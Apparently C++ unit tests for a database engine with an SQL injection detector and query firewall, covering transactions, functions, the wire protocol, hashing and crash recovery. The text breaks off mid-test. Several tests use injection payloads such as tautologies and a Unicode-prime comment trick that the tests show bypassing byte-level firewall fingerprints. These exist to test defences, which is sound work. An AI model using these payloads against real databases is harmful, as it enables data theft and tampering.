  EXPECT_NO_THROW(db.execute(other, "BEGIN"));
  EXPECT_NO_THROW(db.execute(other, "COMMIT"));
  db.execute(session, "COMMIT");
  EXPECT_EQ(db.execute(other, "SELECT balance FROM acct WHERE owner = 'a'")
                .rows[0][0]
                .as_int(),
            0);
}

TEST_F(TxnTest, OwnerSessionContinuesInsideTransaction) {
  db.execute(session, "BEGIN");
  auto rs = db.execute(session, "SELECT COUNT(*) FROM acct");
  EXPECT_EQ(rs.rows[0][0].as_int(), 2);
  db.execute(session, "COMMIT");
}

TEST_F(TxnTest, RollbackIfOwnerOnlyActsForOwner) {
  db.execute(session, "BEGIN");
  db.execute(session, "UPDATE acct SET balance = 0 WHERE owner = 'a'");
  db.rollback_if_owner(session.id() + 999);  // not the owner: no-op
  EXPECT_TRUE(db.in_transaction());
  db.rollback_if_owner(session.id());
  EXPECT_FALSE(db.in_transaction());
  EXPECT_EQ(balance("a"), 100);
}

TEST_F(TxnTest, SepticSeesStatementsInsideTransactions) {
  auto septic = std::make_shared<core::Septic>();
  db.set_interceptor(septic);
  septic->set_mode(core::Mode::kTraining);
  db.execute(session, "SELECT balance FROM acct WHERE owner = 'a'");
  septic->set_mode(core::Mode::kPrevention);

  db.execute(session, "BEGIN");
  EXPECT_NO_THROW(
      db.execute(session, "SELECT balance FROM acct WHERE owner = 'b'"));
  // An attack inside a transaction is still dropped; the txn stays open.
  EXPECT_THROW(db.execute(session, "SELECT balance FROM acct WHERE owner = "
                                   "'b' OR 1 = 1"),
               DbError);
  EXPECT_TRUE(db.in_transaction());
  db.execute(session, "ROLLBACK");
  db.set_interceptor(nullptr);
}

TEST_F(TxnTest, TransactionsWorkThroughPreparedPath) {
  db.execute_prepared(session, "BEGIN", {});
  db.execute_prepared(session, "UPDATE acct SET balance = ? WHERE owner = ?",
                      {sql::Value(int64_t{1}), sql::Value(std::string("a"))});
  db.execute_prepared(session, "ROLLBACK", {});
  EXPECT_EQ(balance("a"), 100);
}

TEST(TxnNet, DisconnectMidTransactionRollsBack) {
  Database db;
  db.execute_admin("CREATE TABLE t (x INT)");
  db.execute_admin("INSERT INTO t VALUES (1)");
  net::Server server(db, 0);
  server.start();
  {
    net::Client c(server.port());
    c.query("BEGIN");
    c.query("DELETE FROM t");
    // Client destructor sends QUIT: connection dies mid-transaction.
  }
  // Give the server thread a moment to clean up, then verify the rollback.
  for (int i = 0; i < 100 && db.in_transaction(); ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(5));
  }
  EXPECT_FALSE(db.in_transaction());
  EXPECT_EQ(db.execute_admin("SELECT COUNT(*) FROM t").rows[0][0].as_int(), 1);
  server.stop();
}

}  // namespace
}  // namespace septic::engine

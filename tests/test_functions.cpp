// Scalar-function and expression-evaluation edge cases with MySQL
// semantics, beyond what the main executor tests cover.
#include <gtest/gtest.h>

#include "engine/database.h"
#include "engine/error.h"

namespace septic::engine {
namespace {

class FnTest : public ::testing::Test {
 protected:
  sql::Value scalar(std::string expr) {
    auto rs = db.execute(session, "SELECT " + expr);
    return rs.rows.at(0).at(0);
  }
  Database db;
  Session session;
};

TEST_F(FnTest, ConcatNullPropagates) {
  EXPECT_EQ(scalar("CONCAT('a', 'b', 'c')").as_string(), "abc");
  EXPECT_TRUE(scalar("CONCAT('a', NULL)").is_null());
  EXPECT_EQ(scalar("CONCAT('n=', 42)").as_string(), "n=42");
}

TEST_F(FnTest, ConcatWsSkipsNulls) {
  EXPECT_EQ(scalar("CONCAT_WS('-', 'a', NULL, 'b')").as_string(), "a-b");
  EXPECT_TRUE(scalar("CONCAT_WS(NULL, 'a', 'b')").is_null());
  EXPECT_EQ(scalar("CONCAT_WS(',', 'only')").as_string(), "only");
}

TEST_F(FnTest, SubstrMySqlIndexing) {
  EXPECT_EQ(scalar("SUBSTR('hello', 2)").as_string(), "ello");
  EXPECT_EQ(scalar("SUBSTR('hello', 2, 3)").as_string(), "ell");
  EXPECT_EQ(scalar("SUBSTR('hello', -3)").as_string(), "llo");
  EXPECT_EQ(scalar("SUBSTR('hello', 0)").as_string(), "");  // MySQL quirk
  EXPECT_EQ(scalar("SUBSTR('hello', 99)").as_string(), "");
  EXPECT_EQ(scalar("SUBSTR('hello', 2, -1)").as_string(), "");
}

TEST_F(FnTest, ReplaceAndTrim) {
  EXPECT_EQ(scalar("REPLACE('aXbX', 'X', 'yy')").as_string(), "ayybyy");
  EXPECT_EQ(scalar("TRIM('  pad  ')").as_string(), "pad");
}

TEST_F(FnTest, RoundModes) {
  EXPECT_EQ(scalar("ROUND(2.5)").coerce_int(), 3);
  EXPECT_EQ(scalar("ROUND(-2.5)").coerce_int(), -3);  // round-half-away
  EXPECT_DOUBLE_EQ(scalar("ROUND(3.14159, 2)").as_double(), 3.14);
  EXPECT_EQ(scalar("ROUND(1234, -2)").coerce_double(), 1200);
}

TEST_F(FnTest, CoalesceAndIfnull) {
  EXPECT_EQ(scalar("COALESCE(NULL, NULL, 7)").as_int(), 7);
  EXPECT_TRUE(scalar("COALESCE(NULL, NULL)").is_null());
  EXPECT_EQ(scalar("IFNULL(NULL, 'fallback')").as_string(), "fallback");
  EXPECT_EQ(scalar("IFNULL('x', 'fallback')").as_string(), "x");
}

TEST_F(FnTest, IfThreeArg) {
  EXPECT_EQ(scalar("IF(1 < 2, 'yes', 'no')").as_string(), "yes");
  EXPECT_EQ(scalar("IF(NULL, 'yes', 'no')").as_string(), "no");
}

TEST_F(FnTest, AbsAndArithmetic) {
  EXPECT_EQ(scalar("ABS(-5)").as_int(), 5);
  EXPECT_DOUBLE_EQ(scalar("ABS(-2.5)").as_double(), 2.5);
  EXPECT_EQ(scalar("7 % 3").as_int(), 1);
  EXPECT_DOUBLE_EQ(scalar("7 / 2").as_double(), 3.5);  // '/' always double
  EXPECT_EQ(scalar("2 + 3 * 4").as_int(), 14);
}

TEST_F(FnTest, Md5IsStableHexDigest) {
  std::string d1 = scalar("MD5('password')").as_string();
  std::string d2 = scalar("MD5('password')").as_string();
  EXPECT_EQ(d1, d2);
  EXPECT_EQ(d1.size(), 32u);
  EXPECT_NE(scalar("MD5('other')").as_string(), d1);
  EXPECT_TRUE(scalar("MD5(NULL)").is_null());
}

TEST_F(FnTest, LengthAndCase) {
  EXPECT_EQ(scalar("LENGTH('abc')").as_int(), 3);
  EXPECT_EQ(scalar("UPPER('mIx')").as_string(), "MIX");
  EXPECT_EQ(scalar("LOWER('mIx')").as_string(), "mix");
  EXPECT_EQ(scalar("UCASE('x')").as_string(), "X");  // alias
}

TEST_F(FnTest, VersionDatabaseSleep) {
  EXPECT_NE(scalar("VERSION()").as_string().find("septicdb"),
            std::string::npos);
  EXPECT_EQ(scalar("DATABASE()").as_string(), "septicdb");
  EXPECT_EQ(scalar("SLEEP(5)").as_int(), 0);       // no real delay
  EXPECT_EQ(scalar("BENCHMARK(1000, 1)").as_int(), 0);
}

TEST_F(FnTest, NullSafeEquals) {
  EXPECT_EQ(scalar("NULL <=> NULL").as_int(), 1);
  EXPECT_EQ(scalar("1 <=> NULL").as_int(), 0);
  EXPECT_EQ(scalar("1 <=> 1").as_int(), 1);
  // Ordinary '=' with NULL is NULL, not 0.
  EXPECT_TRUE(scalar("1 = NULL").is_null());
}

TEST_F(FnTest, InWithNullThreeValued) {
  EXPECT_EQ(scalar("2 IN (1, 2, 3)").as_int(), 1);
  EXPECT_EQ(scalar("9 IN (1, 2, 3)").as_int(), 0);
  // Not found but list has NULL: UNKNOWN, not false.
  EXPECT_TRUE(scalar("9 IN (1, NULL)").is_null());
  // Found despite NULL in list: true.
  EXPECT_EQ(scalar("1 IN (1, NULL)").as_int(), 1);
}

TEST_F(FnTest, LikeEscapes) {
  EXPECT_EQ(scalar("'50%' LIKE '50\\\\%'").as_int(), 1);
  EXPECT_EQ(scalar("'503' LIKE '50\\\\%'").as_int(), 0);
  EXPECT_EQ(scalar("'a_c' LIKE 'a\\\\_c'").as_int(), 1);
  EXPECT_EQ(scalar("'abc' LIKE 'a_c'").as_int(), 1);
  EXPECT_EQ(scalar("'ABC' LIKE 'abc'").as_int(), 1);  // case-insensitive
}

TEST_F(FnTest, UnknownFunctionRejected) {
  EXPECT_THROW(scalar("NOT_A_FUNCTION(1)"), DbError);
}

TEST_F(FnTest, WrongArityRejected) {
  EXPECT_THROW(scalar("LENGTH()"), DbError);
  EXPECT_THROW(scalar("LENGTH('a', 'b')"), DbError);
  EXPECT_THROW(scalar("IF(1, 2)"), DbError);
}

TEST_F(FnTest, AggregateOutsideSelectContextRejected) {
  db.execute_admin("CREATE TABLE fx (a INT)");
  db.execute_admin("INSERT INTO fx VALUES (1)");
  // Aggregates in WHERE are not valid.
  EXPECT_THROW(db.execute(session, "SELECT a FROM fx WHERE SUM(a) > 0"),
               DbError);
}

}  // namespace
}  // namespace septic::engine

// Prepared statements over the wire: PREPARE/EXEC opcodes, parameter
// framing with hostile bytes, and SEPTIC interaction.
#include <gtest/gtest.h>

#include <memory>

#include "engine/database.h"
#include "net/client.h"
#include "net/server.h"
#include "septic/septic.h"

namespace septic::net {
namespace {

using sql::Value;

class NetPreparedTest : public ::testing::Test {
 protected:
  void SetUp() override {
    db.execute_admin(
        "CREATE TABLE np (id INT PRIMARY KEY AUTO_INCREMENT, v TEXT, "
        "n INT)");
    db.execute_admin("INSERT INTO np (v, n) VALUES ('one', 1), ('two', 2)");
    server = std::make_unique<Server>(db, 0);
    server->start();
  }
  void TearDown() override { server->stop(); }

  engine::Database db;
  std::unique_ptr<Server> server;
};

TEST_F(NetPreparedTest, PrepareExecuteRoundTrip) {
  Client c(server->port());
  uint64_t stmt = c.prepare("SELECT v FROM np WHERE n = ?");
  std::string reply = c.execute(stmt, {Value(int64_t{2})});
  EXPECT_NE(reply.find("two"), std::string::npos);
  // Re-execute with different binding.
  reply = c.execute(stmt, {Value(int64_t{1})});
  EXPECT_NE(reply.find("one"), std::string::npos);
}

TEST_F(NetPreparedTest, MultipleStatementsPerConnection) {
  Client c(server->port());
  uint64_t s1 = c.prepare("SELECT v FROM np WHERE n = ?");
  uint64_t s2 = c.prepare("INSERT INTO np (v, n) VALUES (?, ?)");
  EXPECT_NE(s1, s2);
  std::string reply =
      c.execute(s2, {Value(std::string("three")), Value(int64_t{3})});
  EXPECT_NE(reply.find("affected=1"), std::string::npos);
  reply = c.execute(s1, {Value(int64_t{3})});
  EXPECT_NE(reply.find("three"), std::string::npos);
}

TEST_F(NetPreparedTest, HostileBytesInParametersSurviveFraming) {
  Client c(server->port());
  uint64_t ins = c.prepare("INSERT INTO np (v, n) VALUES (?, ?)");
  // Bytes that would break naive framing: separators, colons, NULs-ish,
  // the Unicode prime, quotes.
  std::string payload = "a\x1f:b'c\xca\xbc-- \"d";
  c.execute(ins, {Value(payload), Value(int64_t{42})});
  uint64_t sel = c.prepare("SELECT v FROM np WHERE n = ?");
  std::string reply = c.execute(sel, {Value(int64_t{42})});
  EXPECT_NE(reply.find(payload), std::string::npos);
}

TEST_F(NetPreparedTest, UnknownStatementIdErrors) {
  Client c(server->port());
  EXPECT_THROW(c.execute(999, {}), RemoteError);
}

TEST_F(NetPreparedTest, ParamCountMismatchErrors) {
  Client c(server->port());
  uint64_t stmt = c.prepare("SELECT v FROM np WHERE n = ?");
  EXPECT_THROW(c.execute(stmt, {}), RemoteError);
  EXPECT_THROW(c.execute(stmt, {Value(int64_t{1}), Value(int64_t{2})}),
               RemoteError);
}

TEST_F(NetPreparedTest, StatementsArePerConnection) {
  Client a(server->port());
  uint64_t stmt = a.prepare("SELECT v FROM np WHERE n = ?");
  Client b(server->port());
  // b never prepared anything; a's id is not visible to it.
  EXPECT_THROW(b.execute(stmt, {Value(int64_t{1})}), RemoteError);
}

TEST_F(NetPreparedTest, SepticTreatsWireParamsAsData) {
  auto septic = std::make_shared<core::Septic>();
  db.set_interceptor(septic);
  septic->set_mode(core::Mode::kTraining);
  {
    Client trainer(server->port());
    uint64_t stmt = trainer.prepare("SELECT v FROM np WHERE v = ?");
    trainer.execute(stmt, {Value(std::string("one"))});
  }
  septic->set_mode(core::Mode::kPrevention);
  Client c(server->port());
  uint64_t stmt = c.prepare("SELECT v FROM np WHERE v = ?");
  // A tautology bound over the wire is inert data: passes, returns nothing.
  std::string reply =
      c.execute(stmt, {Value(std::string("' OR '1'='1"))});
  EXPECT_EQ(reply.find("one"), std::string::npos);
  EXPECT_EQ(septic->stats().sqli_detected, 0u);
  db.set_interceptor(nullptr);
}

TEST_F(NetPreparedTest, NullParameterBinds) {
  Client c(server->port());
  uint64_t ins = c.prepare("INSERT INTO np (v, n) VALUES (?, ?)");
  c.execute(ins, {Value::null(), Value(int64_t{77})});
  uint64_t sel = c.prepare("SELECT n FROM np WHERE v IS NULL");
  std::string reply = c.execute(sel, {});
  EXPECT_NE(reply.find("77"), std::string::npos);
}

}  // namespace
}  // namespace septic::net

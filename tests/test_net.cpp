#include <gtest/gtest.h>

#include <memory>
#include <thread>

#include "engine/database.h"
#include "net/client.h"
#include "net/server.h"
#include "septic/septic.h"

namespace septic::net {
namespace {

// ------------------------------------------------------------- protocol

TEST(Protocol, EncodeDecodeRoundTrip) {
  Frame f{Opcode::kQuery, "SELECT 1"};
  FrameDecoder dec;
  dec.feed(encode_frame(f));
  auto out = dec.next();
  ASSERT_TRUE(out.has_value());
  EXPECT_EQ(out->op, Opcode::kQuery);
  EXPECT_EQ(out->payload, "SELECT 1");
  EXPECT_FALSE(dec.next().has_value());
}

TEST(Protocol, PartialFeedBuffersUntilComplete) {
  Frame f{Opcode::kRows, "a\tb\n1\t2\n"};
  std::string bytes = encode_frame(f);
  FrameDecoder dec;
  dec.feed(bytes.substr(0, 3));
  EXPECT_FALSE(dec.next().has_value());
  dec.feed(bytes.substr(3, 4));
  EXPECT_FALSE(dec.next().has_value());
  dec.feed(bytes.substr(7));
  auto out = dec.next();
  ASSERT_TRUE(out.has_value());
  EXPECT_EQ(out->payload, f.payload);
}

TEST(Protocol, MultipleFramesInOneFeed) {
  std::string bytes = encode_frame({Opcode::kQuery, "a"}) +
                      encode_frame({Opcode::kQuit, ""});
  FrameDecoder dec;
  dec.feed(bytes);
  EXPECT_EQ(dec.next()->op, Opcode::kQuery);
  EXPECT_EQ(dec.next()->op, Opcode::kQuit);
}

TEST(Protocol, EmptyPayloadFrame) {
  FrameDecoder dec;
  dec.feed(encode_frame({Opcode::kQuit, ""}));
  auto out = dec.next();
  ASSERT_TRUE(out.has_value());
  EXPECT_TRUE(out->payload.empty());
}

TEST(Protocol, BadOpcodeThrows) {
  FrameDecoder dec;
  std::string bytes = encode_frame({Opcode::kQuery, "x"});
  bytes[4] = 99;  // corrupt the opcode
  dec.feed(bytes);
  EXPECT_THROW(dec.next(), std::runtime_error);
}

TEST(Protocol, ZeroLengthFrameThrows) {
  FrameDecoder dec;
  dec.feed(std::string("\0\0\0\0", 4));
  EXPECT_THROW(dec.next(), std::runtime_error);
}

TEST(Protocol, OversizedLengthThrows) {
  FrameDecoder dec;
  dec.feed(std::string("\xff\xff\xff\xff", 4));
  EXPECT_THROW(dec.next(), std::runtime_error);
}

// ---------------------------------------------------------- server/client

class NetTest : public ::testing::Test {
 protected:
  void SetUp() override {
    db.execute_admin(
        "CREATE TABLE n (id INT PRIMARY KEY AUTO_INCREMENT, v TEXT)");
    db.execute_admin("INSERT INTO n (v) VALUES ('one'), ('two')");
    server = std::make_unique<Server>(db, 0);
    server->start();
  }
  void TearDown() override { server->stop(); }

  engine::Database db;
  std::unique_ptr<Server> server;
};

TEST_F(NetTest, QueryRowsOverTheWire) {
  Client c(server->port());
  std::string reply = c.query("SELECT v FROM n ORDER BY id");
  EXPECT_NE(reply.find("one"), std::string::npos);
  EXPECT_NE(reply.find("two"), std::string::npos);
}

TEST_F(NetTest, DmlReturnsOkSummary) {
  Client c(server->port());
  std::string reply = c.query("INSERT INTO n (v) VALUES ('three')");
  EXPECT_NE(reply.find("affected=1"), std::string::npos);
  EXPECT_NE(reply.find("last_insert_id=3"), std::string::npos);
}

TEST_F(NetTest, SqlErrorBecomesRemoteError) {
  Client c(server->port());
  try {
    c.query("SELECT * FROM ghost");
    FAIL();
  } catch (const RemoteError& e) {
    EXPECT_NE(std::string(e.what()).find("UNKNOWN_TABLE"), std::string::npos);
    EXPECT_FALSE(e.blocked());
  }
}

TEST_F(NetTest, SepticBlockSurfacesAsBlockedError) {
  auto septic = std::make_shared<core::Septic>();
  db.set_interceptor(septic);
  septic->set_mode(core::Mode::kTraining);
  {
    Client trainer(server->port());
    trainer.query("SELECT v FROM n WHERE id = 1");
  }
  septic->set_mode(core::Mode::kPrevention);
  Client c(server->port());
  try {
    c.query("SELECT v FROM n WHERE id = 1 OR 1 = 1");
    FAIL();
  } catch (const RemoteError& e) {
    EXPECT_TRUE(e.blocked());
  }
  db.set_interceptor(nullptr);
}

TEST_F(NetTest, ConcurrentClientDiversity) {
  // Several clients, each its own session, all served correctly.
  constexpr int kClients = 6;
  std::vector<std::thread> threads;
  std::atomic<int> ok{0};
  for (int i = 0; i < kClients; ++i) {
    threads.emplace_back([&] {
      Client c(server->port());
      for (int round = 0; round < 10; ++round) {
        std::string reply = c.query("SELECT COUNT(*) FROM n");
        if (reply.find("2") != std::string::npos) ++ok;
      }
    });
  }
  for (auto& t : threads) t.join();
  EXPECT_EQ(ok.load(), kClients * 10);
  EXPECT_EQ(server->connections_served(), static_cast<uint64_t>(kClients));
}

TEST_F(NetTest, SessionsGetDistinctLastInsertIds) {
  Client a(server->port());
  Client b(server->port());
  std::string ra = a.query("INSERT INTO n (v) VALUES ('a')");
  std::string rb = b.query("INSERT INTO n (v) VALUES ('b')");
  EXPECT_NE(ra.find("last_insert_id=3"), std::string::npos);
  EXPECT_NE(rb.find("last_insert_id=4"), std::string::npos);
}

TEST(NetLifecycle, StopWhileClientConnected) {
  engine::Database db;
  db.execute_admin("CREATE TABLE z (x INT)");
  auto server = std::make_unique<Server>(db, 0);
  server->start();
  Client c(server->port());
  c.query("INSERT INTO z VALUES (1)");
  // Must not deadlock even though the client is still connected.
  server->stop();
}

}  // namespace
}  // namespace septic::net

#include "web/proxy.h"

#include <gtest/gtest.h>

namespace septic::web {
namespace {

TEST(Fingerprint, LiteralsBecomePlaceholders) {
  EXPECT_EQ(QueryFirewall::fingerprint(
                "SELECT * FROM t WHERE a = 'xyz' AND b = 42"),
            "select * from t where a = ? and b = ?");
}

TEST(Fingerprint, WhitespaceAndCaseNormalized) {
  EXPECT_EQ(QueryFirewall::fingerprint("SELECT   *\tFROM  T"),
            QueryFirewall::fingerprint("select * from t"));
}

TEST(Fingerprint, EscapedQuotesInsideLiterals) {
  EXPECT_EQ(QueryFirewall::fingerprint(R"(SELECT 1 WHERE a = 'it\'s')"),
            "select ? where a = ?");
  EXPECT_EQ(QueryFirewall::fingerprint("SELECT 1 WHERE a = 'it''s'"),
            "select ? where a = ?");
}

TEST(Fingerprint, CommentsStripped) {
  EXPECT_EQ(QueryFirewall::fingerprint("SELECT 1 /* note */ -- tail"),
            QueryFirewall::fingerprint("SELECT 1"));
}

TEST(Fingerprint, NumbersInsideIdentifiersKept) {
  EXPECT_EQ(QueryFirewall::fingerprint("SELECT col2 FROM t2"),
            "select col2 from t2");
}

TEST(Fingerprint, TheUnicodeBlindSpot) {
  // The proxy normalizes at the byte level: U+02BC inside a quoted literal
  // is just literal content, so the attacked query fingerprints EXACTLY
  // like the benign one — the blind spot SEPTIC closes.
  std::string benign =
      "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 0";
  std::string attacked =
      "SELECT * FROM tickets WHERE reservID = 'ID34FG\xca\xbc-- ' AND "
      "creditCard = 0";
  EXPECT_EQ(QueryFirewall::fingerprint(benign),
            QueryFirewall::fingerprint(attacked));
}

TEST(Fingerprint, AsciiInjectionChangesFingerprint) {
  std::string benign = "SELECT a FROM t WHERE b = 1";
  std::string attacked = "SELECT a FROM t WHERE b = 1 OR 1=1";
  EXPECT_NE(QueryFirewall::fingerprint(benign),
            QueryFirewall::fingerprint(attacked));
}

TEST(Firewall, LearningModePassesAndLearns) {
  QueryFirewall fw;
  EXPECT_EQ(fw.mode(), QueryFirewall::Mode::kLearning);
  EXPECT_TRUE(fw.check("SELECT a FROM t WHERE b = 1"));
  EXPECT_EQ(fw.fingerprint_count(), 1u);
  // Same shape, different literal: no new fingerprint.
  EXPECT_TRUE(fw.check("SELECT a FROM t WHERE b = 2"));
  EXPECT_EQ(fw.fingerprint_count(), 1u);
}

TEST(Firewall, ProtectModeBlocksUnknown) {
  QueryFirewall fw;
  fw.learn("SELECT a FROM t WHERE b = 1");
  fw.set_mode(QueryFirewall::Mode::kProtect);
  EXPECT_TRUE(fw.check("SELECT a FROM t WHERE b = 99"));
  EXPECT_FALSE(fw.check("SELECT a FROM t WHERE b = 1 OR 1=1"));
  EXPECT_FALSE(fw.check("DELETE FROM t"));
  EXPECT_EQ(fw.blocked_count(), 2u);
}

TEST(Firewall, ProtectModeMissesUnicodeSecondOrder) {
  QueryFirewall fw;
  fw.learn("SELECT * FROM tickets WHERE reservID = 'X' AND creditCard = 0");
  fw.set_mode(QueryFirewall::Mode::kProtect);
  // The payload hides inside the literal at the byte level: passes.
  EXPECT_TRUE(fw.check(
      "SELECT * FROM tickets WHERE reservID = 'ID34FG\xca\xbc-- ' AND "
      "creditCard = 0"));
  EXPECT_EQ(fw.blocked_count(), 0u);
}

TEST(Digest, CollapsesInListArity) {
  EXPECT_EQ(QueryFirewall::digest("SELECT a FROM t WHERE b IN (1, 2, 3)"),
            QueryFirewall::digest("SELECT a FROM t WHERE b IN (7)"));
  EXPECT_EQ(QueryFirewall::digest("SELECT a FROM t WHERE b IN (1, 2, 3)"),
            "select a from t where b in (?+)");
}

TEST(Digest, CollapsesMultiRowValues) {
  EXPECT_EQ(
      QueryFirewall::digest("INSERT INTO t (a, b) VALUES (1, 'x'), (2, 'y')"),
      QueryFirewall::digest("INSERT INTO t (a, b) VALUES (3, 'z')"));
}

TEST(Digest, SingleLiteralStaysSingle) {
  EXPECT_EQ(QueryFirewall::digest("SELECT a FROM t WHERE b = 42"),
            "select a from t where b = ?");
}

TEST(Digest, StructureStillDistinguished) {
  EXPECT_NE(QueryFirewall::digest("SELECT a FROM t WHERE b = 1"),
            QueryFirewall::digest("SELECT a FROM t WHERE b = 1 OR 1=1"));
}

TEST(Firewall, DigestModeAcceptsArityChanges) {
  // The Percona-style tradeoff: coarser normalization accepts IN-list
  // growth that exact fingerprints would flag.
  QueryFirewall exact;
  exact.learn("SELECT a FROM t WHERE b IN (1, 2)");
  exact.set_mode(QueryFirewall::Mode::kProtect);
  EXPECT_FALSE(exact.check("SELECT a FROM t WHERE b IN (1, 2, 3, 4)"));

  QueryFirewall digesty;
  digesty.set_digest_mode(true);
  digesty.learn("SELECT a FROM t WHERE b IN (1, 2)");
  digesty.set_mode(QueryFirewall::Mode::kProtect);
  EXPECT_TRUE(digesty.check("SELECT a FROM t WHERE b IN (1, 2, 3, 4)"));
  // Structural injection is still caught by both.
  EXPECT_FALSE(digesty.check("SELECT a FROM t WHERE b IN (1) OR 1=1"));
}

TEST(Firewall, ClearResets) {
  QueryFirewall fw;
  fw.learn("SELECT 1");
  fw.set_mode(QueryFirewall::Mode::kProtect);
  fw.check("DELETE FROM x");
  fw.clear();
  EXPECT_EQ(fw.fingerprint_count(), 0u);
  EXPECT_EQ(fw.blocked_count(), 0u);
  EXPECT_EQ(fw.mode(), QueryFirewall::Mode::kLearning);
}

}  // namespace
}  // namespace septic::web

#include "common/hash.h"

#include <gtest/gtest.h>

namespace septic::common {
namespace {

TEST(Fnv1a, KnownVector) {
  // FNV-1a 64-bit of empty string is the offset basis.
  EXPECT_EQ(fnv1a(""), kFnvInit);
  // Standard test vector: fnv1a("a") = 0xaf63dc4c8601ec8c.
  EXPECT_EQ(fnv1a("a"), 0xaf63dc4c8601ec8cull);
}

TEST(Fnv1a, DifferentInputsDiffer) {
  EXPECT_NE(fnv1a("SELECT"), fnv1a("select"));
  EXPECT_NE(fnv1a("ab"), fnv1a("ba"));
}

TEST(Fnv1a, Chaining) {
  EXPECT_EQ(fnv1a("ab"), fnv1a("b", fnv1a("a")));
}

TEST(Crc32, KnownVectors) {
  // The IEEE 802.3 check value for "123456789".
  EXPECT_EQ(crc32(""), 0u);
  EXPECT_EQ(crc32("123456789"), 0xcbf43926u);
}

TEST(Crc32, StreamingMatchesOneShot) {
  EXPECT_EQ(crc32("6789", crc32("12345")), crc32("123456789"));
}

TEST(Crc32, SingleBitFlipChangesValue) {
  std::string a = "id\tmodel-payload";
  std::string b = a;
  b[5] ^= 0x01;
  EXPECT_NE(crc32(a), crc32(b));
}

TEST(Crc32, Hex32RoundTrip) {
  EXPECT_EQ(to_hex32(0xcbf43926u), "cbf43926");
  EXPECT_EQ(to_hex32(0u), "00000000");
  uint64_t v = 0;
  ASSERT_TRUE(from_hex("cbf43926", v));
  EXPECT_EQ(v, 0xcbf43926u);
}

TEST(HashCombine, OrderMatters) {
  uint64_t a = hash_combine(hash_combine(kFnvInit, 1), 2);
  uint64_t b = hash_combine(hash_combine(kFnvInit, 2), 1);
  EXPECT_NE(a, b);
}

TEST(HashCombine, NoConcatenationAmbiguity) {
  // ("ab", "c") must differ from ("a", "bc") when mixed with lengths.
  uint64_t h1 = hash_combine(fnv1a("ab", kFnvInit), 2);
  h1 = hash_combine(fnv1a("c", h1), 1);
  uint64_t h2 = hash_combine(fnv1a("a", kFnvInit), 1);
  h2 = hash_combine(fnv1a("bc", h2), 2);
  EXPECT_NE(h1, h2);
}

TEST(ToHex, FixedWidth) {
  EXPECT_EQ(to_hex(0), "0000000000000000");
  EXPECT_EQ(to_hex(0xdeadbeef), "00000000deadbeef");
  EXPECT_EQ(to_hex(~0ull), "ffffffffffffffff");
}

class HexRoundTrip : public ::testing::TestWithParam<uint64_t> {};

TEST_P(HexRoundTrip, ToHexFromHex) {
  uint64_t v = GetParam();
  uint64_t out = 0;
  ASSERT_TRUE(from_hex(to_hex(v), out));
  EXPECT_EQ(out, v);
}

INSTANTIATE_TEST_SUITE_P(Values, HexRoundTrip,
                         ::testing::Values(0ull, 1ull, 0xffull, 0xdeadbeefull,
                                           0x123456789abcdef0ull, ~0ull));

TEST(FromHex, RejectsBadInput) {
  uint64_t v;
  EXPECT_FALSE(from_hex("", v));
  EXPECT_FALSE(from_hex("xyz", v));
  EXPECT_FALSE(from_hex("12345678901234567", v));  // 17 chars
  EXPECT_TRUE(from_hex("ABCDEF", v));              // uppercase accepted
  EXPECT_EQ(v, 0xabcdefull);
}

}  // namespace
}  // namespace septic::common

// Crash-recovery matrix (PR 7): fork a child, run a scripted write
// workload with exactly ONE crashpoint armed, let the child die with
// std::_Exit(42) at the armed site (simulated kill -9: no unwinding, no
// flushing), then recover the data directory in the parent and check the
// durability invariants:
//
//   1. every COMMIT the child acked before dying is present after
//      recovery (the ack was written to a side file only after execute()
//      returned, i.e. after the group-commit fsync under full mode);
//   2. recovery itself never fails — every crashpoint leaves a state the
//      boot path handles (torn tails truncate, tmp checkpoints are
//      ignored, headerless logs read as empty);
//   3. the recovered engine is fully writable;
//   4. the engine's ddl_version agrees with the recovery report
//      (digest-cache generation tags restart coherent);
//   5. recovery is idempotent — a second reopen sees the identical state.
//
// Extra rows beyond the acked set are allowed: a crash after the fsync
// but before the ack reached the side file loses the ack, not the commit.
//
// The child is a real separate process, so the crash also exercises the
// no-destructors path: nothing is flushed, nothing is closed cleanly.
#include <gtest/gtest.h>

#include <fcntl.h>
#include <sys/wait.h>
#include <unistd.h>

#include <atomic>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "common/failpoint.h"
#include "engine/database.h"
#include "engine/error.h"
#include "storage/wal/durable.h"

namespace septic {
namespace {

namespace fp = common::failpoints;
namespace wal = storage::wal;
using engine::Database;
using engine::Session;

// Child exit codes. 42 comes from wal::crashpoint (the armed site); the
// others mark child-side protocol failures so the parent can tell "died
// at the crashpoint" from "died of something else".
constexpr int kExitCrash = 42;
constexpr int kExitNeverFired = 3;  // workload finished, site never hit
constexpr int kExitChildError = 4;  // unexpected exception in the child

std::string fresh_dir(const char* tag) {
  static std::atomic<int> counter{0};
  std::string dir = "/tmp/septic_crash_" + std::string(tag) + "_" +
                    std::to_string(::getpid()) + "_" +
                    std::to_string(counter.fetch_add(1));
  std::filesystem::remove_all(dir);
  std::filesystem::remove(dir + ".acks");
  return dir;
}

wal::DurableStorage::Options dir_opts(const std::string& dir) {
  wal::DurableStorage::Options o;
  o.dir = dir;
  o.mode = wal::DurabilityMode::kFull;
  return o;
}

// Durably record one acked commit: the id only reaches this file after
// Database::execute returned, i.e. after the WAL fsync acked it.
void write_ack(const std::string& acks_path, int id) {
  int fd = ::open(acks_path.c_str(), O_WRONLY | O_CREAT | O_APPEND, 0644);
  if (fd < 0) std::_Exit(kExitChildError);
  std::string line = std::to_string(id) + "\n";
  if (::write(fd, line.data(), line.size()) !=
      static_cast<ssize_t>(line.size())) {
    std::_Exit(kExitChildError);
  }
  ::fsync(fd);
  ::close(fd);
}

std::vector<int> read_acks(const std::string& acks_path) {
  std::vector<int> ids;
  std::ifstream in(acks_path);
  int id;
  while (in >> id) ids.push_back(id);
  return ids;
}

// The child's scripted workload: unarmored setup, then arm the one site
// and keep issuing work that passes through every crashpoint family —
// inserts (append + group-commit sync), autocommit DDL, and forced
// checkpoints (checkpoint file dance + WAL rotation) — until the armed
// site kills the process.
[[noreturn]] void run_workload_child(const std::string& dir,
                                     const std::string& acks_path,
                                     const std::string& site) {
  try {
    Database db(dir_opts(dir));
    db.execute_admin("CREATE TABLE kv (id INT PRIMARY KEY, v TEXT)");
    for (int id = 1; id <= 5; ++id) {
